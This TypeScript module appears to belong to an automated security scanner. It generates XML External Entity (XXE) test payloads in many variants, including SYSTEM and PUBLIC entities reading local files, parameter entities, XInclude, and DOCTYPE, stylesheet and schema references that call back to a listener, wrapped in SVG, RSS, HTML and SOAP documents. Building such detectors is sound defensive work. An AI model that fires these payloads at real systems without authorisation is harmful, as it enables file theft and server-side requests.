import { looksLike, takesText } from '../affinity.ts';
import { plainSeed, written } from '../proofs.ts';
import type { Expectation, Payload, Strategy } from '../strategy.ts';
import type { Listener, World } from '../world.ts';

/** A document with a place for an entity, behind its document type. */
interface Shape {
  id: string;
  root: string;
  isCore: boolean;
  body(entity: string): string;
}

const SHAPES: readonly Shape[] = [
  { id: 'plain', root: 'a', isCore: true, body: (entity) => `<a>${entity}</a>` },
  {
    id: 'svg',
    root: 'svg',
    isCore: false,
    body: (entity) =>
      `<svg xmlns="http://www.w3.org/2000/svg"><title>${entity}</title><desc>${entity}</desc><text>${entity}</text></svg>`,
  },
  {
    id: 'rss',
    root: 'rss',
    isCore: false,
    body: (entity) =>
      `<rss version="2.0"><channel><title>${entity}</title><item><title>${entity}</title><description>${entity}</description></item></channel></rss>`,
  },
  {
    id: 'html',
    root: 'html',
    isCore: false,
    body: (entity) => `<html><head><title>${entity}</title></head><body>${entity}</body></html>`,
  },
  {
    id: 'soap',
    root: 'Envelope',
    isCore: false,
    body: (entity) => `<Envelope><Body><value>${entity}</value></Body></Envelope>`,
  },
];

const LONGEST = 4000;

/** The valid value, where it is XML: every text in it becomes the entity. */
function ownShape(seed: string): Shape[] {
  const found = /^\s*(?:<\?xml[^>]*\?>)?\s*<([A-Za-z_][\w:.-]{0,60})[\s/>]/.exec(seed);
  if (found === null || seed.length > LONGEST || seed.includes('<!')) return [];
  const bare = seed.replace(/<\?xml[^>]*\?>/, '');
  return [
    {
      id: 'own',
      root: found[1]!,
      isCore: true,
      body: (entity) => bare.replace(/>[^<>]*[^<>\s][^<>]*</g, () => `>${entity}<`),
    },
  ];
}

const address = (path: string): string =>
  `file://${path.startsWith('/') ? '' : '/'}${path.replaceAll('\\', '/')}`;

/** Ways to name a file outside. */
const FILES: readonly { id: string; isCore: boolean; name(path: string): string }[] = [
  { id: 'system', isCore: true, name: (path) => `SYSTEM "${address(path)}"` },
  { id: 'system-path', isCore: false, name: (path) => `SYSTEM "${path}"` },
  { id: 'public', isCore: false, name: (path) => `PUBLIC "a" "${address(path)}"` },
  { id: 'public-path', isCore: true, name: (path) => `PUBLIC "a" "${path}"` },
  { id: 'system-quotes', isCore: false, name: (path) => `SYSTEM '${address(path)}'` },
  { id: 'system-lines', isCore: false, name: (path) => `\nSYSTEM\n"${address(path)}"\n` },
  { id: 'system-upper', isCore: false, name: (path) => `SYSTEM "${address(path).replace('file', 'FILE')}"` },
];

function files(shapes: readonly Shape[]): Payload[] {
  const canary: readonly Expectation[] = [{ kind: 'canary' }];
  const read = (id: string, isCore: boolean, write: (world: World) => string): Payload =>
    written(id, isCore, ({ world }) => world && { text: write(world), expects: canary });
  return shapes.flatMap((shape) => [
    ...FILES.map(({ id, isCore, name }) =>
      read(`file-${id}-${shape.id}`, isCore && shape.isCore, ({ outside }) =>
        [`<!DOCTYPE ${shape.root} [<!ENTITY x ${name(outside.path)}>]>`, shape.body('&x;')].join(''),
      ),
    ),
    read(`file-through-${shape.id}`, false, ({ outside }) =>
      [
        `<!DOCTYPE ${shape.root} [<!ENTITY % p "<!ENTITY x SYSTEM '${address(outside.path)}'>">%p;]>`,
        shape.body('&x;'),
      ].join(''),
    ),
    read(`include-${shape.id}`, shape.isCore, ({ outside }) =>
      shape.body(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${address(outside.path)}"/>`,
      ),
    ),
    read(`declared-${shape.id}`, false, ({ outside }) =>
      [
        `<?xml version="1.0"?>\n<!DOCTYPE ${shape.root} [\n<!ENTITY x SYSTEM "${address(outside.path)}">\n]>\n`,
        shape.body('&x;'),
      ].join(''),
    ),
  ]);
}

const at = ({ host, port }: Listener, token: string): string => `http://${host}:${port}/${token}`;

/** Who reads it asks the listener, whatever it does with the texts. The same address in a comment proves nothing. */
function calls([shape]: readonly Shape[]): Payload[] {
  if (shape === undefined) return [];
  const { root, body } = shape;
  const call = (id: string, isCore: boolean, write: (url: string) => string): Payload =>
    written(id, isCore, ({ listener, token }) =>
      listener === undefined
        ? undefined
        : {
            text: write(at(listener, token)),
            expects: [
              {
                kind: 'listener',
                // The document itself may be handed on: only the address, asked for, says that it was followed.
                as: `/${token}`,
                unless: JSON.stringify(
                  `<!-- ${at(listener, `plain/${token}`)} -->${body(at(listener, `plain/${token}`))}`,
                ),
              },
            ],
          },
    );
  return [
    call('call-entity', true, (url) => `<!DOCTYPE ${root} [<!ENTITY x SYSTEM "${url}">]>${body('&x;')}`),
    call(
      'call-parameter',
      true,
      (url) => `<!DOCTYPE ${root} [<!ENTITY % x SYSTEM "${url}"> %x;]>${body('a')}`,
    ),
    call('call-type', true, (url) => `<!DOCTYPE ${root} SYSTEM "${url}">${body('a')}`),
    call('call-public', false, (url) => `<!DOCTYPE ${root} [<!ENTITY x PUBLIC "a" "${url}">]>${body('&x;')}`),
    call('call-public-type', false, (url) => `<!DOCTYPE ${root} PUBLIC "a" "${url}">${body('a')}`),
    call('call-include', false, (url) =>
      body(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${url}"/>`),
    ),
    call('call-sheet', false, (url) => `<?xml-stylesheet type="text/xsl" href="${url}"?>${body('a')}`),
    call('call-schema', false, (url) =>
      body('a').replace(
        /^<[\w:.-]+/,
        (start) =>
          `${start} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${url}"`,
      ),
    ),
  ];
}

export const xxe: Strategy = {
  meta: {
    id: 'xxe',
    title: 'External entities of XML',
    about:
      'Documents whose type names a file outside or an address of ours, which a careless reader follows.',
    cwe: 'CWE-611',
    optIn: false,
    severity: 'high',
    finding: 'A document decides which files or addresses are read',
    fix: 'Turn off document types and external entities in the XML reader. Refuse documents that have a DOCTYPE.',
  },
  of: 'value',
  fits(subject, position) {
    if (position === undefined || subject.kind === 'protocol' || !takesText(position)) return 0;
    return Math.max(0.15, looksLike(position, 'xml', subject));
  },
  payloads(_subject, position) {
    if (position === undefined) return [];
    const shapes = [...ownShape(plainSeed(position)), ...SHAPES];
    return [...calls(shapes), ...files(shapes)];
  },
  needs: ({ world, listener }) =>
    world === undefined && listener === undefined
      ? 'Needs a file outside or a listener, to see whether they are read.'
      : undefined,
};
